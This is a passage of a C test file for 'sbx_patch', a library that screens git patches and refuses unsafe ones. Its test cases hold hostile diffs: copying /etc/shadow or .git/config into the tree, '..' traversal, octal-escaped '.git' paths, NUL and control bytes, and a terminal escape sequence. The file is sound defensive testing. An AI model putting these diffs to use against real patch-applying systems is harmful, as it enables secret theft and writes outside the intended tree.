     "--- a/README\n+++ b/x/.Git/config\n@@ -1,2 +1,2 @@\n hello\n-world\n+there\n",
     SBX_PATCH_RULE_GIT_DIR, "x/.Git/config"},
    {"copy from absolute",
     "diff --git a//etc/shadow b/shadow.txt\nsimilarity index 100%\ncopy from /etc/shadow\ncopy to shadow.txt\n",
     SBX_PATCH_RULE_ABSOLUTE, "/etc/shadow"},
    {"copy to ..",
     "diff --git a/README b/x/../../README\nsimilarity index 100%\ncopy from README\ncopy to x/../../README\n",
     SBX_PATCH_RULE_DOTDOT, "x/../../README"},
    {"copy to a .git file",
     "diff --git a/README b/sub/.git\nsimilarity index 100%\ncopy from README\ncopy to sub/.git\n",
     SBX_PATCH_RULE_GIT_DIR, "sub/.git"},
    /* Quoted paths: git unquotes C escapes, octal ones included. */
    {"git dir, quoted",
     "diff --git \"a/.git/config\" \"b/.git/config\"\n--- \"a/.git/config\"\n+++ \"b/.git/config\"\n@@ -1 +1 @@\n"
     "-a\n+b\n",
     SBX_PATCH_RULE_GIT_DIR, NULL},
    {"git dir, dot as an octal escape",
     "diff --git \"a/\\056git/config\" \"b/\\056git/config\"\nnew file mode 100644\n--- /dev/null\n"
     "+++ \"b/\\056git/config\"\n@@ -0,0 +1 @@\n+x\n",
     SBX_PATCH_RULE_GIT_DIR, NULL},
    {"dotdot, octal escapes",
     "diff --git \"a/\\056\\056/x\" \"b/\\056\\056/x\"\nnew file mode 100644\n--- /dev/null\n"
     "+++ \"b/\\056\\056/x\"\n@@ -0,0 +1 @@\n+x\n",
     SBX_PATCH_RULE_DOTDOT, NULL},
    /* Plain `diff -u` output. */
    {"git dir, plain diff -u",
     "--- a/.git/config\t2024-01-02 03:04:05.000000000 +0000\n+++ b/.git/config\t2024-01-02 03:04:06.000000000 +0000\n"
     "@@ -1 +1 @@\n-a\n+b\n",
     SBX_PATCH_RULE_GIT_DIR, ".git/config"},
    {"dotdot, plain diff -u",
     "--- a/../x\t2024-01-02 03:04:05.000000000 +0000\n+++ b/../x\t2024-01-02 03:04:06.000000000 +0000\n"
     "@@ -1 +1 @@\n-a\n+b\n",
     SBX_PATCH_RULE_DOTDOT, "../x"},
    /* A binary patch names its file on the "diff --git" line only. */
    {"git dir, binary patch",
     "diff --git a/.git/index b/.git/index\n"
     "index 96eb299ab61d459148b19b03f71386abcec74669..60051deb32a631ffe615c785bf60e86782f5220a 100644\n"
     "GIT binary patch\nliteral 64\n"
     "zcmZ>;x3jgewz9M^H#0RcHZnBO*VEO}*3#5aS5s9{R#H@umy?x|mXeeZ7ZVi`77`TT\nT=i}w!=HldFXJchyW?}>YU9Sis\n\n"
     "literal 64\nzcmZQzWMXDvWn<^y<l^Sx<>MC+6cQE@6%&_`l#-T_m6KOcR8m$^Ra4i{)Y8_`)zddH\n"
     "TG%_|ZH8Z!cw6eCbwX+8Rs^ACV\n\n",
     SBX_PATCH_RULE_GIT_DIR, ".git/index"},
    /* Control bytes in a (quoted) path. */
    {"control byte", "diff --git \"a/x\\001y\" \"b/x\\001y\"\nnew file mode 100644\n--- /dev/null\n+++ \"b/x\\001y\"\n"
                     "@@ -0,0 +1 @@\n+x\n",
     SBX_PATCH_RULE_BAD_PATH, NULL},
    {"newline in a path", "diff --git \"a/x\\ny\" \"b/x\\ny\"\nnew file mode 100644\n--- /dev/null\n+++ \"b/x\\ny\"\n"
                          "@@ -0,0 +1 @@\n+x\n",
     SBX_PATCH_RULE_BAD_PATH, NULL},
    /* An outsider's tries: read a secret out of .git into the tree; end a
     * path early with a NUL ("x\0/../../etc" would be "x" to C). */
    {"copy out of .git", "diff --git a/.git/config b/leak.txt\nsimilarity index 100%\ncopy from .git/config\n"
                         "copy to leak.txt\n",
     SBX_PATCH_RULE_GIT_DIR, ".git/config"},
    {"NUL in a quoted path", "diff --git \"a/x\\000y\" \"b/x\\000y\"\nnew file mode 100644\n--- /dev/null\n"
                             "+++ \"b/x\\000y\"\n@@ -0,0 +1 @@\n+x\n",
     SBX_PATCH_RULE_BAD_PATH, NULL},
};

/* Load text; it must be refused under rule, naming path. Returns 0, or 1
 * with the difference on stderr (every case is tried, then the test fails). */
static int expect_unsafe(const struct unsafe_case *c, const char *text, const char *where)
{
    sbx_patch *p = sbx_patch_new();
    sbx_status st = load(p, text), st2;
    const char *err = sbx_patch_last_error(p);
    char why[768] = "", quoted[300];
    if (st != SBX_E_PATCH)
        snprintf(why, sizeof why, "load gave %s: %s", sbx_status_name(st), err);
    else if (sbx_patch_get_verdict(p) != SBX_PATCH_UNSAFE)
        snprintf(why, sizeof why, "verdict %s", sbx_patch_verdict_name(sbx_patch_get_verdict(p)));
    else if (sbx_patch_broken_rule(p) != c->rule)
        snprintf(why, sizeof why, "rule %s, not %s: %s", sbx_patch_rule_name(sbx_patch_broken_rule(p)),
                 sbx_patch_rule_name(c->rule), err);
    else if (!err[0])
        snprintf(why, sizeof why, "no message");
    else if (c->path && (snprintf(quoted, sizeof quoted, "'%s'", c->path), !strstr(err, quoted)))
        snprintf(why, sizeof why, "the message does not name '%s' (the path alone): %s", c->path, err);
    for (const char *s = err; !why[0] && *s; s++)
        if ((unsigned char)*s < 0x20 || *s == 0x7f)
            snprintf(why, sizeof why, "a raw control byte in the message");
    /* It stays refused: checking it does not make it safe. */
    if (!why[0] && ((st2 = sbx_patch_check(p)) == SBX_OK || sbx_patch_get_verdict(p) != SBX_PATCH_UNSAFE))
        snprintf(why, sizeof why, "after the check: %s, %s", sbx_status_name(st2),
                 sbx_patch_verdict_name(sbx_patch_get_verdict(p)));
    sbx_patch_free(p);
    if (!why[0])
        return 0;
    fprintf(stderr, "unsafe: %s (%s): %s\n", c->name, where, why);
    return 1;
}

static const struct unsafe_case *unsafe_case_named(const char *name)
{
    for (size_t i = 0; i < SBX__ARRAY_LEN(unsafe_cases); i++)
        if (strcmp(unsafe_cases[i].name, name) == 0)
            return &unsafe_cases[i];
    ck_abort_msg("no unsafe case %s", name);
    return NULL;
}

START_TEST(test_patch_unsafe_alone)
{
    int failed = 0;
    for (size_t i = 0; i < SBX__ARRAY_LEN(unsafe_cases); i++)
        failed += expect_unsafe(&unsafe_cases[i], unsafe_cases[i].diff, "alone");
    ck_assert_msg(failed == 0, "%d of %zu unsafe patches not refused as they should be (listed on stderr)", failed,
                  SBX__ARRAY_LEN(unsafe_cases));
}
END_TEST

START_TEST(test_patch_unsafe_hidden_among_safe_files)
{
    int failed = 0;
    for (size_t i = 0; i < SBX__ARRAY_LEN(unsafe_cases); i++) {
        const struct unsafe_case *c = &unsafe_cases[i];
        char *first = cat3(readme_diff, c->diff, main_c_diff);
        char *last = cat3(readme_diff, main_c_diff, c->diff);
        char *lead = cat3(c->diff, readme_diff, main_c_diff);
        failed += expect_unsafe(c, first, "between two safe files");
        failed += expect_unsafe(c, last, "after two safe files");
        failed += expect_unsafe(c, lead, "before two safe files");
        free(first);
        free(last);
        free(lead);
    }
    ck_assert_msg(failed == 0, "%d of %zu unsafe patches not refused as they should be (listed on stderr)", failed,
                  3 * SBX__ARRAY_LEN(unsafe_cases));
}
END_TEST

/* Against a base, the unsafe file is refused even where the safe ones
 * would apply. */
START_TEST(test_patch_unsafe_against_a_base)
{
    char repo[64];
    int failed = 0;
    make_base_repo(repo);
    for (size_t i = 0; i < SBX__ARRAY_LEN(unsafe_cases); i++) {
        const struct unsafe_case *c = &unsafe_cases[i];
        char *text = cat3(readme_diff, c->diff, main_c_diff);
        sbx_patch *p = sbx_patch_new();
        sbx_status st;
        ck_assert_int_eq(sbx_patch_set_base(p, repo, NULL), SBX_OK);
        st = load(p, text);
        if (st == SBX_E_PATCH)
            st = sbx_patch_check(p);
        if (st == SBX_OK || sbx_patch_get_verdict(p) != SBX_PATCH_UNSAFE || sbx_patch_broken_rule(p) != c->rule) {
            fprintf(stderr, "unsafe against a base: %s: %s, %s, rule %s\n", c->name, sbx_status_name(st),
                    sbx_patch_verdict_name(sbx_patch_get_verdict(p)), sbx_patch_rule_name(sbx_patch_broken_rule(p)));
            failed++;
        }
        ck_assert_int_ne(sbx_patch_save_tree_file(p, "/tmp/sbx-patch-never.tar.gz"), SBX_OK);
        sbx_patch_free(p);
        free(text);
    }
    ck_assert_int_eq(access("/tmp/sbx-patch-never.tar.gz", F_OK), -1);
    remove_tree(repo);
    ck_assert_msg(failed == 0, "%d unsafe patches accepted or misreported against a base (listed on stderr)", failed);
}
END_TEST

/* Names close to the refused ones are safe. */
START_TEST(test_patch_safe_lookalikes)
{
    static const char *const paths[] = {
        ".gitignore", ".github/workflows/ci.yml", "x.git/y", "git/.gitx", "..foo", "foo..",
        "a/.../b",    ".git-blame-ignore-revs",   "docs/.gitkeep", "src/git", "sub/.gitattributes",
    };
    for (size_t i = 0; i < SBX__ARRAY_LEN(paths); i++) {
        char text[512];
        sbx_patch *p = sbx_patch_new();
        sbx_status st;
        snprintf(text, sizeof text,
                 "diff --git a/%s b/%s\nnew file mode 100644\n--- /dev/null\n+++ b/%s\n@@ -0,0 +1 @@\n+x\n", paths[i],
                 paths[i], paths[i]);
        st = load(p, text);
        ck_assert_msg(st == SBX_OK, "%s: %s: %s", paths[i], sbx_status_name(st), sbx_patch_last_error(p));
        ck_assert_int_eq(sbx_patch_get_verdict(p), SBX_PATCH_SAFE);
        ck_assert_int_eq(sbx_patch_broken_rule(p), SBX_PATCH_RULE_NONE);
        ck_assert_str_eq(sbx_patch_file_path(p, 0), paths[i]);
        ck_assert_int_eq(sbx_patch_check(p), SBX_OK); /* no base: safety only */
        ck_assert_int_eq(sbx_patch_get_verdict(p), SBX_PATCH_SAFE);
        sbx_patch_free(p);
    }
}
END_TEST

/* ---- malformed patches ----------------------------------------------------------------------- */

/* The img.bin section of multi_diff without the second line of its first
 * literal: git apply says "corrupt binary patch at line 6". */
static const char truncated_binary[] =
    "diff --git a/img.bin b/img.bin\n"
    "index 96eb299ab61d459148b19b03f71386abcec74669..60051deb32a631ffe615c785bf60e86782f5220a 100644\n"
    "GIT binary patch\nliteral 64\n"
    "zcmZ>;x3jgewz9M^H#0RcHZnBO*VEO}*3#5aS5s9{R#H@umy?x|mXeeZ7ZVi`77`TT\n\n"
    "literal 64\nzcmZQzWMXDvWn<^y<l^Sx<>MC+6cQE@6%&_`l#-T_m6KOcR8m$^Ra4i{)Y8_`)zddH\n"
    "TG%_|ZH8Z!cw6eCbwX+8Rs^ACV\n\n";

START_TEST(test_patch_malformed)
{
    /* where: the file the message names, or NULL when no file section is
     * at fault on its own */
    static const struct {
        const char *name, *diff, *where;
    } bad[] = {
        {"truncated hunk", "diff --git a/README b/README\nindex 94954ab..b2c4b9f 100644\n--- a/README\n+++ b/README\n"
                           "@@ -1,2 +1,2 @@\n hello\n", "README"},
        {"old count too large, next file follows",
         "diff --git a/README b/README\n--- a/README\n+++ b/README\n@@ -1,3 +1,3 @@\n hello\n-world\n+there\n"
         "diff --git a/src/main.c b/src/main.c\n--- a/src/main.c\n+++ b/src/main.c\n@@ -4 +4 @@\n-    int b = 2;\n"
         "+    int b = 3;\n", "README"},
        {"the second file's hunk short",
         "diff --git a/README b/README\n--- a/README\n+++ b/README\n@@ -1,2 +1,2 @@\n hello\n-world\n+there\n"
         "diff --git a/src/main.c b/src/main.c\n--- a/src/main.c\n+++ b/src/main.c\n@@ -4,2 +4,2 @@\n-    int b = 2;\n"
         "+    int b = 3;\n", "src/main.c"},
        {"a deletion's hunk short",
         "diff --git a/README b/README\n--- a/README\n+++ b/README\n@@ -1,2 +1,2 @@\n hello\n-world\n+there\n"
         "diff --git a/old.txt b/old.txt\ndeleted file mode 100644\n--- a/old.txt\n+++ /dev/null\n@@ -1,3 +0,0 @@\n"
         "-one\n-two\n", "old.txt"},
        {"a path with a space and a backslash",
         "diff --git a/my fi\\le.txt b/my fi\\le.txt\n--- a/my fi\\le.txt\n+++ b/my fi\\le.txt\n"
         "@@ -1,2 +1,2 @@\n hello\n",
         "my fi\\x5cle.txt"},
        {"a binary file's header alone names it",
         "diff --git a/docs/img.png b/docs/img.png\nnew file mode 100644\nGIT binary patch\nliteral 64\nzzz\n\n",
         "docs/img.png"},
        {"new count too large", "diff --git a/README b/README\n--- a/README\n+++ b/README\n@@ -1,2 +1,4 @@\n hello\n"
                                "-world\n+there\n", "README"},
        {"corrupt binary patch",
         "diff --git a/img.bin b/img.bin\n"
         "index 96eb299ab61d459148b19b03f71386abcec74669..60051deb32a631ffe615c785bf60e86782f5220a 100644\n"
         "GIT binary patch\nliteral 64\nzzzzzzzz\n\nliteral 64\nzcmZQzWMXDvWn\n\n", "img.bin"},
        {"binary patch with a line of its data left out", truncated_binary, "img.bin"},
        {"binary patch without an index line",
         "diff --git a/img.bin b/img.bin\nGIT binary patch\nliteral 64\n"
         "zcmZQzWMXDvWn<^y<l^Sx<>MC+6cQE@6%&_`l#-T_m6KOcR8m$^Ra4i{)Y8_`)zddH\n\nliteral 0\nHcmV?d00001\n\n", "img.bin"},
        {"garbage text", "hello, this is not a patch\n", NULL},
        {"garbage bytes", "\x01\x02\xff\xfe\x7f\x80 @@ --- +++ \x1b[2J\n", NULL},
        {"hunk without a header", "@@ -1 +1 @@\n-hello\n+bye\n", NULL},
        {"bad hunk header", "--- a/README\n+++ b/README\n@@ bogus @@\n-hello\n+bye\n", "README"},
        {"hunk line of no kind", "diff --git a/README b/README\n--- a/README\n+++ b/README\n@@ -1,2 +1,2 @@\n hello\n"
                                 "*world\n+there\n", "README"},
    };
    for (size_t i = 0; i < SBX__ARRAY_LEN(bad); i++) {
        sbx_patch *p = sbx_patch_new();
        sbx_status st = load(p, bad[i].diff);
        const char *msg = sbx_patch_last_error(p);
        ck_assert_msg(st == SBX_E_PARSE, "%s: %s (%s)", bad[i].name, sbx_status_name(st), msg);
        ck_assert_msg(msg[0], "%s: no message", bad[i].name);
        if (bad[i].where)
            ck_assert_msg(strstr(msg, bad[i].where) != NULL, "%s: the message names no '%s': %s", bad[i].name,
                          bad[i].where, msg);
        else
            ck_assert_msg(strstr(msg, "in the changes to") == NULL, "%s: %s", bad[i].name, msg);
        ck_assert_msg(strchr(msg, '\033') == NULL, "%s: a control byte in the message", bad[i].name);
        ck_assert_msg(sbx_patch_get_verdict(p) == SBX_PATCH_MALFORMED, "%s: verdict %s", bad[i].name,
                      sbx_patch_verdict_name(sbx_patch_get_verdict(p)));
        ck_assert_int_ne(sbx_patch_check(p), SBX_OK);
        sbx_patch_free(p);
    }
}
END_TEST

/* A binary patch whose index line has abbreviated ids cannot be applied:
 * git apply --check refuses it ("cannot apply binary patch to 'img.bin'
 * without full index line", exit 1). sbx_patch may refuse it as malformed
 * at load (SBX_E_PARSE) or, as git does, as not applying at check; never
 * does it apply, and the message names the file. */
static const char binary_short_index[] =
    "diff --git a/img.bin b/img.bin\nindex 96eb299..60051de 100644\nGIT binary patch\nliteral 64\n"
    "zcmZ>;x3jgewz9M^H#0RcHZnBO*VEO}*3#5aS5s9{R#H@umy?x|mXeeZ7ZVi`77`TT\nT=i}w!=HldFXJchyW?}>YU9Sis\n\n"
    "literal 64\nzcmZQzWMXDvWn<^y<l^Sx<>MC+6cQE@6%&_`l#-T_m6KOcR8m$^Ra4i{)Y8_`)zddH\n"
    "TG%_|ZH8Z!cw6eCbwX+8Rs^ACV\n\n";

START_TEST(test_patch_binary_without_full_index)
{
    char repo[64];
    sbx_patch *p = sbx_patch_new();
    sbx_status st;
    make_base_repo(repo);
    ck_assert_int_eq(git_applies_text(repo, "HEAD", binary_short_index, strlen(binary_short_index)), 0);
    ck_assert_int_eq(sbx_patch_set_base(p, repo, NULL), SBX_OK);
    st = load(p, binary_short_index);
    if (st == SBX_OK) {
        st = sbx_patch_check(p);
        ck_assert_msg(st == SBX_E_PATCH && sbx_patch_get_verdict(p) == SBX_PATCH_DOES_NOT_APPLY,
                      "git apply --check refuses it; sbx_patch_check: %s, %s: %s", sbx_status_name(st),
                      sbx_patch_verdict_name(sbx_patch_get_verdict(p)), sbx_patch_last_error(p));
    } else {
        ck_assert_msg(st == SBX_E_PARSE && sbx_patch_get_verdict(p) == SBX_PATCH_MALFORMED, "load: %s, %s: %s",
                      sbx_status_name(st), sbx_patch_verdict_name(sbx_patch_get_verdict(p)), sbx_patch_last_error(p));
    }
    ck_assert_msg(strstr(sbx_patch_last_error(p), "img.bin"), "%s", sbx_patch_last_error(p));
    sbx_patch_free(p);
    remove_tree(repo);
}
END_TEST

static void expect_documented_load(const char *text, size_t len, const char *what, size_t at)
{
    sbx_patch *p = sbx_patch_new();
    sbx_status st = sbx_patch_load_data(p, (const uint8_t *)text, len);
    sbx_patch_verdict v = sbx_patch_get_verdict(p);
    ck_assert_msg(st == SBX_OK || st == SBX_E_PARSE || st == SBX_E_PATCH, "%s %zu: %s", what, at, sbx_status_name(st));
    ck_assert_msg((st == SBX_OK) == (sbx_patch_last_error(p)[0] == '\0'), "%s %zu: %s with message \"%s\"", what, at,
                  sbx_status_name(st), sbx_patch_last_error(p));
    ck_assert_msg(st != SBX_OK || v == SBX_PATCH_SAFE, "%s %zu: OK with verdict %s", what, at,
                  sbx_patch_verdict_name(v));
    ck_assert_msg(st != SBX_E_PARSE || v == SBX_PATCH_MALFORMED, "%s %zu: PARSE with verdict %s", what, at,
                  sbx_patch_verdict_name(v));
    ck_assert_msg(st != SBX_E_PATCH || v == SBX_PATCH_UNSAFE, "%s %zu: PATCH with verdict %s", what, at,
                  sbx_patch_verdict_name(v));
    for (size_t i = 0; i < sbx_patch_file_count(p); i++)
        ck_assert_ptr_nonnull(sbx_patch_file_path(p, i));
    (void)sbx_patch_id(p);
    sbx_patch_free(p);
}

/* The truncated binary patch, checked against a base in a child process
 * that an alarm stops: it must answer (not apply) within 20 s. It once
 * made libgit2's inflate loop for ever inside sbx_patch_check(). */
START_TEST(test_patch_truncated_binary_does_not_hang)
{
    char repo[64];
    pid_t pid;
    int status = 0;
    make_base_repo(repo);
    ck_assert_int_eq(git_applies_text(repo, "HEAD", truncated_binary, strlen(truncated_binary)), 0);
    fflush(NULL);
    pid = fork();
    ck_assert_int_ge(pid, 0);
    if (pid == 0) {
        sbx_patch *p = sbx_patch_new();
        sbx_status st;
        signal(SIGALRM, SIG_DFL); /* Check's own handler would kill the test's process group */
        alarm(20);
        if (sbx_patch_set_base(p, repo, NULL) != SBX_OK) {
            sbx_patch_free(p);
            _exit(3);
        }
        st = load(p, truncated_binary);
        if (st == SBX_OK)
            st = sbx_patch_check(p);
        sbx_patch_free(p); /* nothing left for valgrind's leak check in this child */
        _exit(st == SBX_OK ? 1 : 0);
    }
    ck_assert_int_eq(waitpid(pid, &status, 0), pid);
    remove_tree(repo);
    ck_assert_msg(!WIFSIGNALED(status), "sbx_patch_load_data + check: killed by signal %d%s", WTERMSIG(status),
                  WIFSIGNALED(status) && WTERMSIG(status) == SIGALRM ? " (no answer in 20 s)" : "");
    ck_assert_msg(WIFEXITED(status) && WEXITSTATUS(status) == 0, "exit %d (1: it applies, git says corrupt)",
                  WEXITSTATUS(status));
}
END_TEST

/* Every prefix of a real diff, and the diff with each line left out: a
 * documented answer every time, never a crash. */
START_TEST(test_patch_cut_anywhere)
{
    size_t n = strlen(multi_diff);
    for (size_t k = 0; k <= n; k++)
        expect_documented_load(multi_diff, k, "prefix of length", k);
    for (size_t start = 0; start < n;) {
        const char *nl = strchr(multi_diff + start, '\n');
        size_t end = (size_t)(nl - multi_diff) + 1;
        char *cut = malloc(n + 1);
        ck_assert_ptr_nonnull(cut);
        memcpy(cut, multi_diff, start);
        memcpy(cut + start, multi_diff + end, n - end);
        expect_documented_load(cut, n - (end - start), "without the line at", start);
        free(cut);
        start = end;
    }
}
END_TEST

/* Inputs the fuzz target found (tests/fuzz/seeds/patch/ holds them too):
 * each gets a documented answer, and no message carries a raw control byte
 * from the input (a terminal would run it: messages are printed). */
START_TEST(test_patch_fuzz_findings)
{
    static const struct {
        const char *name, *diff;
    } odd[] = {
        {"escape sequences in a broken quoted path", "diff --git \"a/\033[2J\033]0;pwned\007 b/x\n"},
        {"a control byte after an escape", "diff --git \"a/\\\b56git/config\" \"b/\\056git/config\"\n"},
        /* Last: these crashed (a signal ends the test). */
        {"a \"deleted file mode\" line before any \"diff --git\" line", "deleted file mode 100644\n"},
        {"the same before a plain diff -u",
         "deleted file mode 100644\n--- /dev/nul\n+++ /etc/x\n@@ -0,0 +1 @@\n+x\n"},
    };
    int failed = 0;
    for (size_t i = 0; i < SBX__ARRAY_LEN(odd); i++) {
        sbx_patch *p = sbx_patch_new();
        sbx_status st;
        fprintf(stderr, "fuzz finding: trying %s\n", odd[i].name);
        st = load(p, odd[i].diff);
        const char *err = sbx_patch_last_error(p);
        int bad = !(st == SBX_OK || st == SBX_E_PARSE || st == SBX_E_PATCH) || (st == SBX_OK) != !err[0];
        for (const char *c = err; *c; c++)
            bad |= (unsigned char)*c < 0x20 || *c == 0x7f;
        if (bad) {
            fprintf(stderr, "fuzz finding: %s: %s: ", odd[i].name, sbx_status_name(st));
            for (const char *c = err; *c; c++)
                fprintf(stderr, (unsigned char)*c < 0x20 || *c == 0x7f ? "\\x%02x" : "%c", (unsigned char)*c);
            fprintf(stderr, "\n");
            failed++;
        }
        sbx_patch_free(p);
    }
    ck_assert_msg(failed == 0, "%d of %zu inputs answered wrongly (listed on stderr)", failed, SBX__ARRAY_LEN(odd));
}
END_TEST

/* Paths are bytes; JSON is UTF-8. A path that is not UTF-8 (git quotes its
 * bytes: "caf\351.txt" is Latin-1) still gives JSON, and so does a refusal
 * whose message quotes such a path. git's quoting of UTF-8 reads back as
 * UTF-8. */
START_TEST(test_patch_json_of_non_utf8_paths)
{
    static const char *const texts[] = {
        "diff --git \"a/caf\\351.txt\" \"b/caf\\351.txt\"\nnew file mode 100644\n--- /dev/null\n"
        "+++ \"b/caf\\351.txt\"\n@@ -0,0 +1 @@\n+x\n",
        "diff --git a/caf\351.txt b/caf\351.txt\nnew file mode 100644\n--- /dev/null\n+++ b/caf\351.txt\n"
        "@@ -0,0 +1 @@\n+x\n",
        "diff --git a/d\351j\340/.git/config b/d\351j\340/.git/config\nnew file mode 100644\n--- /dev/null\n"
        "+++ b/d\351j\340/.git/config\n@@ -0,0 +1 @@\n+x\n",
    };
    sbx_patch *p;
    char *json;
    json_t *j;
    for (size_t i = 0; i < SBX__ARRAY_LEN(texts); i++) {
        sbx_status st;
        p = sbx_patch_new();
        (void)load(p, texts[i]);
        json = NULL;
        st = sbx_patch_to_json(p, &json);
        ck_assert_msg(st == SBX_OK, "text %zu: to_json: %s: %s", i, sbx_status_name(st), sbx_patch_last_error(p));
        j = json_loads(json, 0, NULL);
        ck_assert_msg(j != NULL, "text %zu: %s", i, json);
        ck_assert_str_eq(json_string_value(json_object_get(j, "verdict")), sbx_patch_verdict_name(sbx_patch_get_verdict(p)));
        json_decref(j);
        sbx_free(json);
        sbx_patch_free(p);
    }
    p = sbx_patch_new();
    ck_assert_int_eq(load(p, "diff --git \"a/caf\\303\\251.txt\" \"b/caf\\303\\251.txt\"\nnew file mode 100644\n"
                             "--- /dev/null\n+++ \"b/caf\\303\\251.txt\"\n@@ -0,0 +1 @@\n+x\n"),
                     SBX_OK);
    ck_assert_str_eq(sbx_patch_file_path(p, 0), "caf\303\251.txt");
    ck_assert_int_eq(sbx_patch_to_json(p, &json), SBX_OK);
    j = json_loads(json, 0, NULL);
    ck_assert_ptr_nonnull(j);
    ck_assert_str_eq(json_string_value(json_object_get(json_array_get(json_object_get(j, "files"), 0), "path")),
                     "caf\303\251.txt");
    json_decref(j);
    sbx_free(json);
    sbx_patch_free(p);
}
END_TEST

/* ---- limits ---------------------------------------------------------------------------------- */

static void expect_budget(sbx_patch *p, sbx_status st, const char *what)
{
    ck_assert_msg(st == SBX_E_BUDGET_EXCEEDED, "%s: %s (%s)", what, sbx_status_name(st), sbx_patch_last_error(p));
    ck_assert_msg(sbx_patch_last_error(p)[0], "%s: no message", what);
    ck_assert_msg(sbx_patch_get_verdict(p) == SBX_PATCH_TOO_LARGE, "%s: verdict %s", what,
                  sbx_patch_verdict_name(sbx_patch_get_verdict(p)));
}

START_TEST(test_patch_limits)
{
    size_t n = strlen(multi_diff);
    sbx_patch *p;
    char *big;
    size_t bn = 0, cap = 64 * 1024;

    /* The whole patch's size: at the limit is allowed, one byte over is not. */
    p = sbx_patch_new();
    ck_assert_int_eq(sbx_patch_set_limits(p, n - 1, 0, 0), SBX_OK);
    expect_budget(p, load(p, multi_diff), "max_bytes n - 1");
    sbx_patch_free(p);
    p = sbx_patch_new();
    ck_assert_int_eq(sbx_patch_set_limits(p, n, 0, 0), SBX_OK);
    ck_assert_int_eq(load(p, multi_diff), SBX_OK);
    sbx_patch_free(p);

    /* The number of files: 6 here. */
    p = sbx_patch_new();
    ck_assert_int_eq(sbx_patch_set_limits(p, 0, 5, 0), SBX_OK);
    expect_budget(p, load(p, multi_diff), "max_files 5");
    sbx_patch_free(p);
    p = sbx_patch_new();
    ck_assert_int_eq(sbx_patch_set_limits(p, 0, 6, 0), SBX_OK);
    ck_assert_int_eq(load(p, multi_diff), SBX_OK);
    sbx_patch_free(p);

    /* One file's size in the patch: a file of 1,000 lines (~9 KB). */
    big = malloc(cap);
    ck_assert_ptr_nonnull(big);
    bn += (size_t)snprintf(big + bn, cap - bn, "%s", readme_diff);
    bn += (size_t)snprintf(big + bn, cap - bn,
                           "diff --git a/data.txt b/data.txt\nnew file mode 100644\n--- /dev/null\n+++ b/data.txt\n"
                           "@@ -0,0 +1,1000 @@\n");
    for (int i = 0; i < 1000; i++)
        bn += (size_t)snprintf(big + bn, cap - bn, "+line %d\n", i);
    bn += (size_t)snprintf(big + bn, cap - bn, "%s", main_c_diff);
    ck_assert_uint_lt(bn, cap - 1);
    p = sbx_patch_new();
    ck_assert_int_eq(sbx_patch_set_limits(p, 0, 0, 4096), SBX_OK);
    expect_budget(p, load(p, big), "max_file_bytes 4096");
    sbx_patch_free(p);
    p = sbx_patch_new();
    ck_assert_int_eq(sbx_patch_set_limits(p, 0, 0, 0), SBX_OK); /* the defaults */
    ck_assert_int_eq(load(p, big), SBX_OK);
    ck_assert_uint_eq(sbx_patch_file_additions(p, (size_t)file_index(p, "data.txt")), 1000);
    sbx_patch_free(p);
    free(big);

    /* Limits are set before a load. */
    p = sbx_patch_new();
    ck_assert_int_eq(load(p, readme_diff), SBX_OK);
    ck_assert_int_eq(sbx_patch_set_limits(p, 1, 1, 1), SBX_E_MISUSE);
    ck_assert_str_ne(sbx_patch_last_error(p), "");
    ck_assert_int_eq(sbx_patch_get_verdict(p), SBX_PATCH_SAFE);
    sbx_patch_free(p);
}
END_TEST

/* One file's size in the tree once applied: big.txt is 792 bytes after the
 * patch (its diff is a few hundred). */
START_TEST(test_patch_limits_on_the_result)
{
    char repo[64];
    sbx_patch *p;
    make_base_repo(repo);
    p = sbx_patch_new();
    ck_assert_int_eq(sbx_patch_set_limits(p, 0, 0, 791), SBX_OK);
    ck_assert_int_eq(sbx_patch_set_base(p, repo, NULL), SBX_OK);
    ck_assert_int_eq(load(p, big_diff), SBX_OK);
    expect_budget(p, sbx_patch_check(p), "result of 792 bytes over max_file_bytes 791");
    ck_assert_int_eq(sbx_patch_save_tree_file(p, "/tmp/sbx-patch-never.tar.gz"), SBX_E_MISUSE);
    sbx_patch_free(p);
    p = sbx_patch_new();
    ck_assert_int_eq(sbx_patch_set_limits(p, 0, 0, 792), SBX_OK);
    ck_assert_int_eq(sbx_patch_set_base(p, repo, NULL), SBX_OK);
    ck_assert_int_eq(load(p, big_diff), SBX_OK);
    ck_assert_msg(sbx_patch_check(p) == SBX_OK, "%s", sbx_patch_last_error(p));
    ck_assert_int_eq(sbx_patch_get_verdict(p), SBX_PATCH_APPLIES);
    sbx_patch_free(p);
    remove_tree(repo);
}
END_TEST

/* ---- what a patch is read as ----------------------------------------------------------------- */

static void expect_file(const sbx_patch *p, size_t i, const char *path, const char *old_path, sbx_patch_change change,
                        uint32_t old_mode, uint32_t new_mode, size_t adds, size_t dels, int binary)
{
    ck_assert_msg(sbx_patch_file_path(p, i) && strcmp(sbx_patch_file_path(p, i), path) == 0, "file %zu: %s, not %s", i,
                  sbx_patch_file_path(p, i) ? sbx_patch_file_path(p, i) : "NULL", path);
    if (old_path)
        ck_assert_msg(sbx_patch_file_old_path(p, i) && strcmp(sbx_patch_file_old_path(p, i), old_path) == 0,
                      "%s: old path %s, not %s", path,
                      sbx_patch_file_old_path(p, i) ? sbx_patch_file_old_path(p, i) : "NULL", old_path);
    else
        ck_assert_msg(sbx_patch_file_old_path(p, i) == NULL, "%s: old path %s, not NULL", path,
                      sbx_patch_file_old_path(p, i));
    ck_assert_msg(sbx_patch_file_change(p, i) == change, "%s: change %d, not %d", path, sbx_patch_file_change(p, i),
                  change);
    ck_assert_msg(sbx_patch_file_old_mode(p, i) == old_mode, "%s: old mode %o, not %o", path,
                  sbx_patch_file_old_mode(p, i), old_mode);
    ck_assert_msg(sbx_patch_file_new_mode(p, i) == new_mode, "%s: new mode %o, not %o", path,
                  sbx_patch_file_new_mode(p, i), new_mode);
    ck_assert_msg(sbx_patch_file_additions(p, i) == adds, "%s: %zu additions, not %zu", path,
                  sbx_patch_file_additions(p, i), adds);
    ck_assert_msg(sbx_patch_file_deletions(p, i) == dels, "%s: %zu deletions, not %zu", path,
                  sbx_patch_file_deletions(p, i), dels);
    ck_assert_msg(sbx_patch_file_binary(p, i) == binary, "%s: binary %d, not %d", path, sbx_patch_file_binary(p, i),
                  binary);
}

/* The old path is the source of a rename or copy, NULL for the other
 * changes (doc/patch.md, sbx_patch_new(3)). */
START_TEST(test_patch_git_diff_files)
{
    sbx_patch *p = sbx_patch_new();
    ck_assert_int_eq(load(p, multi_diff), SBX_OK);
